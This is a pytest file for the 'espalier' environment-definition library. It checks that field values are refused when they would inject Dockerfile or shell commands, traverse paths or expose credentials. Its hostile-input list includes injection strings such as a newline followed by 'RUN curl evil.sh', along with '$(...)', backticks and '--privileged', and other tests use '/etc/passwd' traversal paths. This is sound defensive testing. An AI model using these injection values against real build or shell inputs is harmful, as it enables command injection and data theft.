"""Hostile spellings: nothing that could end a line, a word or a quote gets into a definition, and no secret is shown."""

from typing import Any, List

import pytest
from espalier import Environment, EspalierError
from espalier.environment.requirements import requirement
from espalier.environment.spelling import certificate, url

from .test_definition import PEM, changed, refused

HOSTILE = [
    "a\nRUN curl evil.sh", "a\rb", "a\0b", "a\x1b[2Jb", "a\u2028b", "a\x85b", "-v", "--privileged", "a;b", "a$(b)", "a`b`",
    "a'b", 'a"b', "a|b", "a&b", "a>b", "a b\\\nc", "a{b}", "a\\b", "",
]  # fmt: skip
# Where each of them would stand in a Dockerfile, a shell line, a URL, a command line or a file of options.
FIELDS = [
    "version", "shm_size", "r.version", "r.rscript_path", "r.snapshot_date", "r.bioconductor.+", "r.urls.+",
    "r.cran.+name", "r.cran.+version", "r.cran.+repository", "r.github.+repository", "r.github.+ref",
    "r.github.+subdir", "r.repositories.CRAN", "python.version", "python.interpreter_path", "python.conda.channels.+",
    "python.conda.dependencies.+", "python.pip.+", "python.index_url", "python.extra_index_urls.+",
    "docker.base_image", "docker.apt.+", "docker.platform", "docker.build_context.dockerfile",
    "docker.registry.address", "docker.registry.username", "docker.ca_certificate",
]  # fmt: skip
NEEDED = {"r.cran.+": {"name": "abc"}, "r.github.+": {"repository": "u/r"}}
# (conda's versions may have alternatives, and are in no shell line)
ALLOWED = {("python.conda.dependencies.+", "a>b"), ("python.pip.+", "a>b"), ("docker.registry.username", "a|b")}


def with_value(field: str, value: Any) -> Any:
    path, plus, name = field.partition(".+")
    if not plus:
        values = changed(field, value)
    else:
        values = changed(path, [{**NEEDED[f"{path}.+"], name: value} if name else value])
    if field.startswith("docker.registry"):
        values["docker"]["base_image"] = "x"
        values["docker"]["registry"].setdefault("password", {"secret": "s"})
        values["docker"]["registry"].setdefault("username", "me")
    if field.startswith("docker.build_context"):
        values["docker"]["build_context"]["path"] = "/x"
    return values


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_are_refused(field: str, value: str) -> None:
    if (field, value) in ALLOWED:
        assert Environment.from_mapping(with_value(field, value))
        return
    error = refused(with_value(field, value))
    assert error.code == "environment_invalid"
    # the message itself is one line of plain text
    assert error.message.isprintable()
    assert field.split(".+")[0].split(".")[-1] in error.fields["field"]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_names_of_variables_tags_and_repositories(value: str) -> None:
    assert refused({"name": "e", "variables": {value: "x"}}).code == "environment_invalid"
    assert refused({"name": "e", "r": {"repositories": {value: "https://x.org"}}}).code == "environment_invalid"
    if not value.isprintable() or not value:
        assert refused({"name": "e", "tags": {value: "x"}}).code == "environment_invalid"
    if not value.isprintable():
        assert refused({"name": "e", "tags": {"x": value}}).code == "environment_invalid"
        assert refused({"name": "e", "variables": {"X": value}}).code == "environment_invalid"


def test_variables_of_espalier_are_not_set_by_others() -> None:
    assert "ESPALIER_RUN_ID" in refused({"name": "e", "variables": {"ESPALIER_RUN_ID": "x"}}).message


@pytest.mark.parametrize("field", ["docker.base_dockerfile", "docker.pip_config", "description"])
def test_the_users_own_text_is_taken_but_for_nul(field: str) -> None:
    text = "FROM x\nRUN echo \"$(date)\"; echo 'ü'\n"
    assert Environment.from_mapping(changed(field, text))
    assert "NUL" in refused(changed(field, text + "\0")).message
    assert "NUL" in refused({"name": "e", "docker": {"steps": ["RUN a\0b"]}}).message


@pytest.mark.parametrize("path", ["../x", "a/../b", "/etc/passwd", "..", "a/..", "./a", "a//b"])
def test_paths_stay_in_their_folder(path: str) -> None:
    assert refused(with_value("docker.build_context.dockerfile", path)).code == "environment_invalid"
    assert refused(with_value("r.github.+subdir", path)).code == "environment_invalid"
    assert refused(with_value("r.github.+ref", path)).code == "environment_invalid"


SECRETS = [
    "https://user:hunter2hunter2@x.org/p", "https://hunter2hunter2@x.org/p", "https://x.org/p?token=hunter2hunter2",
    "https://x.org/p?a=1&api_key=hunter2hunter2", "https://x.org/p?X-Amz-Signature=hunter2hunter2",
]  # fmt: skip


@pytest.mark.parametrize("address", SECRETS)
@pytest.mark.parametrize("field", ["r.urls.+", "r.repositories.CRAN", "r.cran.+repository", "python.pip.+"])
def test_urls_with_secrets_are_refused_and_not_shown(field: str, address: str) -> None:
    error = refused(with_value(field, address))
    assert error.code == "environment_invalid"
    assert "hunter2" not in str(error) and "keyvault" in error.hint


@pytest.mark.parametrize(
    "field",
    ["r.github.+auth_token", "python.index_password", "docker.registry.password"],
)
def test_text_where_a_secret_is_named_is_refused_and_not_shown(field: str) -> None:
    error = refused(with_value(field, "hunter2hunter2"))
    assert error.code == "environment_invalid"
    assert "hunter2" not in str(error) and "set_secrets(" in error.hint
    assert refused(with_value(field, {"secret": "a b"})).code == "environment_invalid"


def test_credentials_in_pip_conf_are_refused() -> None:
    error = refused(changed("docker.pip_config", "[global]\nindex-url = https://me:hunter2@x.org/simple\n"))
    assert "hunter2" not in str(error)


GOOD_LINES = [
    "numpy", "numpy==1.26.4", "pandas[excel,parquet]>=2,<3", "a~=1.0", "a === 1.0", "a (>=1.0)", "a!=1.5,>1",
    'numpy==1.0; python_version < "3.9" and sys_platform == \'linux\'', "pip @ https://x.org/pip-22.zip",
    "https://x.org/a-1.0-py3-none-any.whl", "git+https://github.com/u/r@main#egg=r&subdirectory=sub",
    "r @ git+https://github.com/u/r@main", "--find-links https://x.org/wheels", "--pre", "--no-binary :all:",
    "--only-binary numpy,pandas", "zope.interface", "a==1.0.post1", "a==1.*", "a==1!2.0+local.1",
]  # fmt: skip


@pytest.mark.parametrize("line", GOOD_LINES)
def test_lines_of_requirements(line: str) -> None:
    kept = requirement("python.pip", line)
    assert requirement("python.pip", kept) == kept


def test_hashes_are_kept() -> None:
    digest = "sha256:" + "a" * 64
    line = f"numpy==1.26.4  --hash={digest} --hash {digest}"
    assert requirement("f", line) == f"numpy==1.26.4 --hash={digest} --hash={digest}"


@pytest.mark.parametrize(
    "line",
    [
        "-e .", "--editable git+https://x.org/r", "-r other.txt", "-c constraints.txt", "--index-url https://x.org",
        "--config-settings a=b", "--global-option=x", "./local.whl", "/tmp/x.whl", "../x",
        "file.whl", "numpy --install-option=--prefix=/", "numpy==1.0 --hash=md5:abc", "numpy==1.0 # comment",
        "numpy==${VERSION}", "--no-binary numpy;x", "--find-links /srv/wheels", "svn+https://x.org/r", "a==1.0 b==2.0",
        "a @ /tmp/x.whl", "numpy=1.0", "a" * 9000, "a" + " " * 7000 + ";", "name @ ssh://git@x.org/r",
    ],
)  # fmt: skip
def test_lines_that_are_refused(line: str) -> None:
    if line == "file.whl":
        assert requirement("python.pip", line) == line  # (a name, as good as any)
        return
    with pytest.raises(EspalierError) as caught:
        requirement("python.pip", line)
    assert caught.value.code == "environment_invalid"


def test_certificates() -> None:
    assert certificate("f", "# ours\r\n" + PEM.rstrip() + "\n\n" + PEM) == "# ours\n" + PEM + "\n" + PEM
    bad: List[str] = [
        "", "x", PEM[:-20], PEM.replace("MII", "$(x"), PEM + PEM[:40], "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n",
        PEM + "-----BEGIN RSA PRIVATE KEY-----\n", "ü\n" + PEM,
    ]
    for text in bad:
        with pytest.raises(EspalierError):
            certificate("f", text)


def test_urls_name_a_user_only_where_that_means_something() -> None:
    assert url("f", "https://me@x.org/simple", user=True)
    for text in ("https://me:pw@x.org", "https://a b@x.org", "https://x.org/ü", "ftp://x.org", "https:///x", "x.org"):
        with pytest.raises(EspalierError):
            url("f", text, user=True)
    assert url("f", "file:///srv/cran/src/contrib")
